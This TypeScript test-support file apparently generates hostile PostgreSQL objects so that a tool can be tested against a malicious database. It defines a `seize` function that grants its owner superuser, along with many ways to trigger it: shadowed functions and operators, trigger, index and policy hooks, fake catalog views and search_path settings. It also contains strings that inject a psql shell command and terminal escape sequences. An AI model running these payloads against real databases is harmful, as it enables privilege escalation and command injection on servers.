import { readFileSync } from "node:fs";
import { filesBelow } from "../support/files.ts";

/**
 * What the owner of a database can put into it so that somebody else's session runs it. Every way leads to `seize`,
 * which writes into the server's log who ran it, and makes its owner a superuser where that one may. Each statement is
 * tried by itself: what a version of PostgreSQL refuses does not keep the others out.
 */
export interface Capture {
  readonly name: string;
  readonly statements: readonly string[];
}

/** In a line of the server's log: whose session it was, as whom it ran, and as whom after it tried to be the session's own. */
export const SEIZED = /SEIZED way=(\S+) session=(\S+) before=(\S+) after=(\S+) as=(.*)/;

/** @param role who is to become superuser */
function seize(role: string): string {
  return `
CREATE FUNCTION public.seize(way text) RETURNS boolean LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $$
DECLARE before pg_catalog.name := current_user;
BEGIN
  BEGIN EXECUTE 'SET ROLE NONE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RAISE LOG 'SEIZED way=% session=% before=% after=% as=%', way, session_user, before, current_user,
    pg_catalog.current_setting('application_name');
  IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user) THEN
    BEGIN EXECUTE 'ALTER ROLE ${role} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  END IF;
  BEGIN EXECUTE pg_catalog.format('SET ROLE %I', before); EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
EXCEPTION WHEN OTHERS THEN RETURN true;
END $$`;
}

/** PostgreSQL believes whoever calls a function immutable: the planner works it out, indexes hold it. */
const QUIET = `CREATE FUNCTION public.quiet(way text, value text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
  BEGIN PERFORM public.seize(way); RETURN value; END $$`;

/** Functions that SQL of the program calls by their names: taken from its sources, so that later ones are among them. */
function wordsBeforeParentheses(): readonly string[] {
  const words = filesBelow("src")
    .filter((file) => file.endsWith(".ts"))
    .flatMap((file) => [...readFileSync(file, "utf8").matchAll(/\b([a-z][a-z0-9_]{2,})\(/g)])
    .map(([, word = ""]) => word);
  return [...new Set(words)].sort();
}

/** The same signatures as the system's, in a schema that may be searched before it. */
function functionsIn(schema: string, words: readonly string[]): string {
  const names = words.map((word) => `'${word}'`);
  return `
DO $do$ DECLARE f record; arguments text; BEGIN
  FOR f IN SELECT p.oid, p.proname, p.pronargs, p.prorettype::regtype::text AS result,
      pg_catalog.oidvectortypes(p.proargtypes) AS types
    FROM pg_catalog.pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset
      AND p.prorettype NOT IN ('internal'::regtype, 'trigger'::regtype) AND p.provariadic = 0
      AND p.proname IN (${names.join(", ")})
  LOOP
    SELECT coalesce(string_agg('$' || n, ', '), '') INTO arguments FROM generate_series(1, f.pronargs) AS n;
    BEGIN
      EXECUTE format('CREATE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', f.proname, f.types, f.result,
        format('BEGIN PERFORM public.seize(%L); RETURN pg_catalog.%I(%s); END', 'function:' || f.proname, f.proname, arguments));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $do$`;
}

/** Operators that fit better than the system's wherever both schemas are searched, in whatever order. */
const OPERATORS = `
DO $do$ DECLARE o text; l text; r text;
  types text[] := ARRAY['name', 'text', 'varchar', 'oid', 'integer', '"char"'];
BEGIN
  FOREACH l IN ARRAY types LOOP FOREACH r IN ARRAY types LOOP
    EXECUTE format('CREATE FUNCTION public.compares(%s, %s) RETURNS boolean LANGUAGE sql AS %L', l, r,
      format('SELECT public.seize(%L)', 'operator:' || replace(l, '"', '') || '/' || replace(r, '"', '')));
    FOREACH o IN ARRAY ARRAY['=', '<>', '<', '>', '~', '!~', '~~'] LOOP
      BEGIN
        EXECUTE format('CREATE OPERATOR public.%s (leftarg = %s, rightarg = %s, function = public.compares)', o, l, r);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
  END LOOP; END LOOP;
END $do$`;

/** Tables of Odoo's that the program knows, as far as they are there. */
const TABLES = [
  "ir_attachment",
  "ir_module_module",
  "ir_config_parameter",
  "ir_cron",
  "res_users",
  "res_partner",
];

const perTable = (make: (table: string) => string): string[] => TABLES.map(make);

/** What would act on a terminal, end a line of SQL, or be a command of psql's. */
const LOUD = `"loud\u001b]0;owned\u0007\r\n\\! touch /tmp/of-the-owner\n-- '' $$ "`;
const HOSTILE_TEXT = `E'loud\u001b]0;owned\\r\\n\\\\! touch /tmp/of-the-owner\\n-- $$'`;

/** @param database the one that they are put into, by its owner @param role its owner */
export function captures(database: string, role: string): readonly Capture[] {
  const named = `"${database.replaceAll('"', '""')}"`;
  const both = (setting: string): string[] => [
    `ALTER DATABASE ${named} SET ${setting}`,
    `ALTER ROLE ${role} IN DATABASE ${named} SET ${setting}`,
  ];
  return [
    { name: "seize", statements: [seize(role), QUIET] },
    {
      name: "functions in public, and in the schema that bears the superuser's name",
      statements: [
        functionsIn("public", wordsBeforeParentheses()),
        "CREATE SCHEMA postgres",
        functionsIn("postgres", [
          "current_setting",
          "format_type",
          "pg_get_userbyid",
          "to_regclass",
          "set_config",
        ]),
        `CREATE FUNCTION public.step(bigint, varchar) RETURNS bigint LANGUAGE sql AS
           $$SELECT CASE WHEN public.seize('aggregate') THEN $1 END$$`,
        "CREATE AGGREGATE public.count(varchar) (sfunc = public.step, stype = bigint, initcond = '0')",
        "CREATE AGGREGATE public.max(varchar) (sfunc = public.step, stype = bigint, initcond = '0')",
      ],
    },
    { name: "operators in public", statements: [OPERATORS] },
    {
      name: "indexes: expressions and conditions",
      statements: [
        ...perTable((table) => `CREATE INDEX ON public.${table} (public.quiet('index:${table}', id::text))`),
        ...perTable(
          (table) =>
            `CREATE INDEX ON public.${table} (id) WHERE public.quiet('condition:${table}', 'x') = 'x'`,
        ),
      ],
    },
    {
      name: "statistics of expressions",
      statements: perTable(
        (
          table,
        ) => `CREATE STATISTICS public.of_${table} ON (public.quiet('statistics:${table}', 'x') || id::text), id
          FROM public.${table}`,
      ),
    },
    {
      name: "triggers and rules",
      statements: [
        `CREATE FUNCTION public.on_change() RETURNS trigger LANGUAGE plpgsql AS
           $$ BEGIN PERFORM public.seize('trigger:' || TG_TABLE_NAME); RETURN NEW; END $$`,
        ...perTable(
          (table) => `CREATE TRIGGER seizing BEFORE INSERT OR UPDATE OR DELETE ON public.${table}
            FOR EACH ROW EXECUTE FUNCTION public.on_change()`,
        ),
        ...perTable((table) => `ALTER TABLE public.${table} ENABLE ALWAYS TRIGGER seizing`),
        ...perTable(
          (table) => `CREATE TRIGGER seizing_all AFTER TRUNCATE ON public.${table}
            FOR EACH STATEMENT EXECUTE FUNCTION public.on_change()`,
        ),
        ...perTable(
          (table) => `CREATE RULE seizing AS ON UPDATE TO public.${table}
            DO ALSO SELECT public.seize('rule:${table}')`,
        ),
        `CREATE FUNCTION public.on_event() RETURNS event_trigger LANGUAGE plpgsql AS
           $$ BEGIN PERFORM public.seize('event'); END $$`,
        // Only a superuser may: it is refused.
        "CREATE EVENT TRIGGER seizing ON ddl_command_end EXECUTE FUNCTION public.on_event()",
      ],
    },
    {
      name: "checks, defaults, generated columns, domains, casts, policies",
      statements: [
        ...perTable(
          (table) => `ALTER TABLE public.${table} ADD CONSTRAINT seizing
            CHECK (public.quiet('check:${table}', 'x') = 'x')`,
        ),
        "CREATE DOMAIN public.seized AS text CHECK (public.quiet('domain', VALUE) IS NOT DISTINCT FROM VALUE)",
        "CREATE TYPE public.pair AS (one text)",
        `CREATE FUNCTION public.as_pair(text) RETURNS public.pair LANGUAGE plpgsql AS
           $$ BEGIN PERFORM public.seize('cast'); RETURN ROW($1)::public.pair; END $$`,
        "CREATE CAST (text AS public.pair) WITH FUNCTION public.as_pair(text) AS IMPLICIT",
        `CREATE TABLE public.hostile (id integer PRIMARY KEY, given text DEFAULT public.quiet('default', 'x'),
           made text GENERATED ALWAYS AS (public.quiet('generated', 'x')) STORED, held public.seized, two public.pair)`,
        "INSERT INTO public.hostile (id, held, two) VALUES (1, 'x', ROW('x')::public.pair)",
        ...["ir_attachment", "res_users"].flatMap((table) => [
          `CREATE POLICY seizing ON public.${table} USING (public.quiet('policy:${table}', 'x') = 'x')`,
          `ALTER TABLE public.${table} ENABLE ROW LEVEL SECURITY`,
          `ALTER TABLE public.${table} FORCE ROW LEVEL SECURITY`,
        ]),
      ],
    },
    {
      name: "views, also in the place of what the program asks",
      statements: [
        "CREATE MATERIALIZED VIEW public.kept AS SELECT public.quiet('materialized', id::text) AS id FROM public.res_partner",
        ...[
          "bus_bus",
          "mail_mail",
          "queue_job",
          "pg_stat_activity",
          "pg_database",
          "pg_roles",
          "pg_settings",
          "pg_class",
        ].map(
          (
            name,
          ) => `CREATE VIEW public.${name} AS SELECT 1 AS id, public.quiet('view:${name}', 'sent') AS state,
            'x'::text AS name, now() AS create_date WHERE public.seize('view:${name}')`,
        ),
        `CREATE FUNCTION public.definer() RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS
           $$ BEGIN RETURN public.seize('definer'); END $$`,
        'CREATE COLLATION public."C" FROM "C"',
        "CREATE SERVER away FOREIGN DATA WRAPPER postgres_fdw",
        'CREATE TABLE public."pg_temp" (id integer)',
      ],
    },
    {
      name: "tables that inherit, partitions",
      statements: [
        ...perTable((table) => `CREATE TABLE public.child_of_${table} () INHERITS (public.${table})`),
        ...perTable(
          (table) =>
            `CREATE INDEX ON public.child_of_${table} (id) WHERE public.quiet('child:${table}', 'x') = 'x'`,
        ),
        ...perTable((table) => `INSERT INTO public.child_of_${table} (id) VALUES (-1)`),
        "CREATE TABLE public.parted (id integer, name text) PARTITION BY LIST (public.quiet('partition key', name))",
        "CREATE TABLE public.part PARTITION OF public.parted FOR VALUES IN ('a')",
        "CREATE TABLE public.rest PARTITION OF public.parted DEFAULT",
        "INSERT INTO public.parted VALUES (1, 'a'), (2, 'b')",
        "CREATE INDEX ON public.parted (public.quiet('partitioned index', name))",
        "CREATE TABLE public.bounded (id text) PARTITION BY RANGE (id)",
        "CREATE TABLE public.bound PARTITION OF public.bounded FOR VALUES FROM (public.quiet('bound', 'a')) TO ('b')",
      ],
    },
    {
      name: "publications, large objects, default rights, comments",
      statements: [
        `CREATE PUBLICATION ${LOUD} FOR TABLE public.res_partner`,
        "CREATE PUBLICATION filtered FOR TABLE public.res_users WHERE (public.quiet('publication', 'x') = 'x')",
        // Only a superuser may make these.
        "CREATE PUBLICATION everything FOR ALL TABLES",
        "CREATE SUBSCRIPTION away CONNECTION 'host=127.0.0.1 dbname=postgres' PUBLICATION x WITH (connect = false)",
        "SELECT pg_catalog.lo_from_bytea(4711, 'x'), pg_catalog.lo_from_bytea(0, pg_catalog.decode('00ff', 'hex'))",
        "GRANT ALL ON LARGE OBJECT 4711 TO PUBLIC",
        `COMMENT ON LARGE OBJECT 4711 IS ${HOSTILE_TEXT}`,
        `SELECT pg_catalog.lo_export(4711, '/tmp/of-the-owner')`,
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
        "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT EXECUTE ON FUNCTIONS TO PUBLIC",
        "ALTER DEFAULT PRIVILEGES FOR ROLE postgres GRANT ALL ON TABLES TO PUBLIC",
        `COMMENT ON DATABASE ${named} IS ${HOSTILE_TEXT}`,
        `COMMENT ON TABLE public.res_partner IS ${HOSTILE_TEXT}`,
        `COMMENT ON FUNCTION public.seize(text) IS ${HOSTILE_TEXT}`,
        `COMMENT ON SCHEMA public IS ${HOSTILE_TEXT}`,
      ],
    },
    {
      name: "names that end a comment, a line or a quote",
      statements: [
        `CREATE TABLE public.${LOUD} (${LOUD} text DEFAULT public.quiet('default of a loud one', 'x'))`,
        `CREATE VIEW public.${LOUD.replace('"loud', '"view')} AS SELECT public.quiet('loud view', 'x') AS ${LOUD}`,
        `CREATE SCHEMA ${LOUD}`,
        `CREATE SEQUENCE ${LOUD}.${LOUD}`,
        `CREATE TYPE ${LOUD}.kinds AS ENUM (${HOSTILE_TEXT.slice(1)})`,
        `CREATE FUNCTION ${LOUD}.${LOUD}(${LOUD} text) RETURNS boolean LANGUAGE sql AS
           $$ SELECT public.seize('loud function') $$`,
        `CREATE INDEX ${LOUD} ON public.res_partner (public.quiet('loud index', id::text))`,
        // One that is set aside when it comes back, with its names: no such library is there.
        `CREATE TEXT SEARCH DICTIONARY public.${LOUD} (template = pg_catalog.simple)`,
      ],
    },
    {
      name: "text search, conversions, ranges, and more that is found by a search path",
      statements: [
        "CREATE TEXT SEARCH CONFIGURATION public.english (copy = pg_catalog.simple)",
        `ALTER DATABASE ${named} SET default_text_search_config = 'public.english'`,
        "CREATE DEFAULT CONVERSION public.seizing FOR 'UTF8' TO 'LATIN1' FROM pg_catalog.utf8_to_iso8859_1",
        `CREATE FUNCTION public.apart(float8, float8) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS
           $$ BEGIN PERFORM public.seize('range'); RETURN $1 - $2; END $$`,
        "CREATE TYPE public.span AS RANGE (subtype = float8, subtype_diff = public.apart)",
        "CREATE TABLE public.spans (of public.span)",
        "INSERT INTO public.spans SELECT public.span(n, n + 1) FROM pg_catalog.generate_series(1, 300) AS n",
        "CREATE INDEX ON public.spans USING gist (of)",
        "CREATE DOMAIN public.text AS pg_catalog.text CHECK (public.quiet('domain of a name', VALUE) IS NOT NULL)",
        "CREATE DOMAIN public.oid AS pg_catalog.oid CHECK (public.quiet('domain of a name', 'x') = 'x')",
        "CREATE DOMAIN public.name AS pg_catalog.name CHECK (public.quiet('domain of a name', 'x') = 'x')",
        "CREATE SEQUENCE public.pg_settings_seq",
        "CREATE PROCEDURE public.version() LANGUAGE plpgsql AS $$ BEGIN PERFORM public.seize('procedure'); END $$",
      ],
    },
    {
      name: "settings of the database, of the role, of the role in the database",
      statements: [
        ...[
          "search_path = public, postgres, pg_catalog",
          "datestyle = 'German, DMY'",
          "intervalstyle = 'sql_standard'",
          "timezone = 'Pacific/Kiritimati'",
          "bytea_output = 'escape'",
          "client_encoding = 'LATIN1'",
          "standard_conforming_strings = off",
          "quote_all_identifiers = on",
          "array_nulls = off",
          "xmloption = 'document'",
          "xmlbinary = 'hex'",
          "extra_float_digits = -15",
          "default_transaction_read_only = on",
          "default_transaction_isolation = 'serializable'",
          "default_tablespace = 'nowhere'",
          "statement_timeout = '1ms'",
          "lock_timeout = '1ms'",
          "idle_in_transaction_session_timeout = '1ms'",
          "idle_session_timeout = '1ms'",
          "local_preload_libraries = 'nowhere'",
          "session_preload_libraries = 'nowhere'",
          "row_security = off",
          "client_min_messages = 'debug5'",
          "enable_seqscan = off",
          "application_name = 'hostile'",
        ].flatMap(both),
        `ALTER DATABASE ${named} SET role = '${role}'`,
        `ALTER ROLE ${role} SET search_path = public, pg_catalog`,
        `ALTER ROLE ${role} SET datestyle = 'SQL, DMY'`,
      ],
    },
  ];
}
